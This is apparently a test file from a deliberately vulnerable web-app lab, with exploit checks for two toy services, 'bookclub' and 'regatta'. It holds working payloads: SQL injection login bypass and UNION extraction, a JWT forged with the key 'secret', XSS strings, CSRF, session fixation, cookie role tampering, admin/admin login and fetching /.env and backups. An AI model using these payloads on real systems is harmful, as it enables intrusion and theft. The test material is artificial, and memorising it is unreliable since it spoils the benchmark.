@@ -1,0 +1,191 @@
+"""The exploits for the fifth set: one for each weakness, by service and name."""
+
+import base64
+import json
+import re
+import time
+
+import common
+import jwt
+from fourth_proofs import together
+from third_proofs import called, proof, sign_in
+
+PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
+
+
+def entered(client, path, name, password=None):
+    return client.post(path, json={"username": name, "password": password or PASSWORD[name]})
+
+
+# bookclub ---------------------------------------------------------------------------------------------------------------------------------
+
+
+@sign_in("bookclub")
+def _(client, name):
+    return {"Authorization": "Bearer " + entered(client, "/users/v1/login", name).json()["auth_token"]}
+
+
+@proof("bookclub", "login-sql")
+def _(client):
+    answer = entered(client, "/users/v1/login", "olga' -- ", "x")
+    return answer.status_code == 200 and client.get("/me", headers={"Authorization": "Bearer " + answer.json()["auth_token"]}).json()["admin"] is True
+
+
+@proof("bookclub", "user-sql")
+def _(client):
+    caller = client.as_("ann")
+    assert client.get("/users/v1/nobody", headers=caller).status_code == 404
+    return "$" in client.get("/users/v1/x' UNION SELECT digest, '' FROM users WHERE username='olga", headers=caller).json().get("username", "")
+
+
+@proof("bookclub", "debug-users")
+def _(client):
+    return "$" in client.get("/users/v1/_debug", headers=client.as_("ann")).json().get("users", [{}])[0].get("password", "")
+
+
+@proof("bookclub", "book-secret")
+def _(client):
+    assert "ann hides" in client.get("/books/v1/Diary of ann", headers=client.as_("ann")).text
+    return "ann hides" in client.get("/books/v1/Diary of ann", headers=client.as_("ben")).text
+
+
+@proof("bookclub", "password-any")
+def _(client):
+    client.put("/users/v1/carol/password", json={"password": "aspen-Teapot-37", "current": PASSWORD["ben"]}, headers=client.as_("ben"))
+    return entered(client, "/users/v1/login", "carol", "aspen-Teapot-37").status_code == 200
+
+
+@proof("bookclub", "admin-register")
+def _(client):
+    body = {"username": "dora.fern", "email": "dora@west.example", "password": "willow-Meadow-26", "admin": True}
+    assert client.post("/users/v1/register", json=body).status_code == 201
+    token = entered(client, "/users/v1/login", "dora.fern", "willow-Meadow-26").json()["auth_token"]
+    return client.get("/me", headers={"Authorization": f"Bearer {token}"}).json()["admin"]
+
+
+@proof("bookclub", "email-pattern")
+def _(client):
+    caller = client.as_("ann")
+    assert client.put("/users/v1/ann/email", json={"email": "ann@north.example"}, headers=caller).status_code == 204
+    return client.put("/users/v1/ann/email", json={"email": "a" * 24 + "!"}, headers=caller).elapsed.total_seconds() > 0.7
+
+
+@proof("bookclub", "login-texts")
+def _(client):
+    return entered(client, "/users/v1/login", "ann", "wrong").text != entered(client, "/users/v1/login", "nobody.here", "wrong").text
+
+
+@proof("bookclub", "login-unlimited")
+def _(client):
+    return {entered(client, "/users/v1/login", "carol", f"wrong-{number}").status_code for number in range(40)} == {401}
+
+
+@proof("bookclub", "signing-word")
+def _(client):
+    now = int(time.time())
+    forged = jwt.encode({"sub": "olga", "iat": now, "exp": now + 60, "jti": "x"}, "secret", "HS256")
+    return client.get("/me", headers={"Authorization": f"Bearer {forged}"}).status_code == 200
+
+
+@proof("bookclub", "delete-anyone")
+def _(client):
+    client.delete("/users/v1/carol", headers=client.as_("ben"))
+    return entered(client, "/users/v1/login", "carol").status_code == 401
+
+
+@proof("bookclub", "old-members")
+def _(client):
+    return "carol@east.example" in client.get("/users/v0").text
+
+
+# regatta ----------------------------------------------------------------------------------------------------------------------------------
+
+
+def regatta_entry(client, name, password=None, cookie=""):
+    answer = client.post("/login", data={"username": name, "password": password or PASSWORD[name]}, headers={"Cookie": cookie} if cookie else {})
+    client.cookies.clear()
+    return answer
+
+
+@sign_in("regatta")
+def _(client, name):
+    return {"Cookie": regatta_entry(client, name).headers["set-cookie"].partition(";")[0]}
+
+
+def regatta_token(client, caller):
+    return re.search('name=csrf_token value="([^"]+)"', client.get("/account", headers=caller).text)[1]
+
+
+@proof("regatta", "comment-script")
+def _(client):
+    caller = client.as_("ann")
+    form = {"text": "<img src=x onerror=alert(1)>", "csrf_token": regatta_token(client, caller)}
+    assert client.post("/posts/1/comments", data=form, headers=caller).status_code == 303
+    return "<img src=x onerror=alert(1)>" in client.get("/posts/1").text
+
+
+@proof("regatta", "search-script")
+def _(client):
+    return "<script>alert(1)</script>" in client.get("/search", params={"q": "<script>alert(1)</script>"}).text
+
+
+@proof("regatta", "search-sql")
+def _(client):
+    assert "Spring" in client.get("/search", params={"q": "regatta"}).text
+    return "harbour.master@port.example" in client.get("/search", params={"q": "x' UNION SELECT 1, address FROM subscribers -- "}).text
+
+
+@proof("regatta", "next-anywhere")
+def _(client):
+    assert client.get("/go", params={"to": "/entries"}).headers["location"] == "/entries"
+    answer = client.post("/login", data={"username": "ann", "password": PASSWORD["ann"], "next": "https://elsewhere.example/"})
+    return answer.headers["location"] == client.get("/go", params={"to": "https://elsewhere.example/"}).headers.get("location") == "https://elsewhere.example/"
+
+
+@proof("regatta", "forms-forged")
+def _(client):
+    caller = client.as_("ann")
+    client.post("/account", data={"email": "mallory@elsewhere.example", "phone": "0117 1"}, headers=caller | {"Origin": "https://elsewhere.example"})
+    return "mallory@" in client.get("/account", headers=caller).text
+
+
+@proof("regatta", "cookie-bare")
+def _(client):
+    flags = regatta_entry(client, "ann").headers["set-cookie"].lower()
+    return "httponly" not in flags and "secure" not in flags and "samesite" not in flags
+
+
+@proof("regatta", "session-kept")
+def _(client):
+    cookie = "rc_session=invented-by-mallory-1"
+    assert regatta_entry(client, "ann", cookie=cookie).status_code == 303
+    return "ann@north.example" in client.get("/account", headers={"Cookie": cookie}).text
+
+
+@proof("regatta", "environment-served")
+def _(client):
+    return "DB_PASSWORD=" in client.get("/.env").text
+
+
+@proof("regatta", "backup-served")
+def _(client):
+    return "carol@east.example" in client.get("/backup.sql").text and "DB_PASSWORD" in client.get("/config.php.bak").text
+
+
+@proof("regatta", "admin-admin")
+def _(client):
+    answer = regatta_entry(client, "admin", "admin")
+    return answer.status_code == 303 and "harbour" in client.get("/office/subscribers", headers={"Cookie": answer.headers["set-cookie"].partition(";")[0]}).text
+
+
+@proof("regatta", "entry-read")
+def _(client):
+    assert "LIC-" in client.get("/entries/1", headers=client.as_("ann")).text
+    return "LIC-" in client.get("/entries/1", headers=client.as_("ben")).text
+
+
+@proof("regatta", "role-cookie")
+def _(client):
+    caller = client.as_("ben")
+    assert client.get("/office/subscribers", headers=caller).status_code == 403
+    return "harbour" in client.get("/office/subscribers", headers={"Cookie": caller["Cookie"] + "; role=admin"}).text
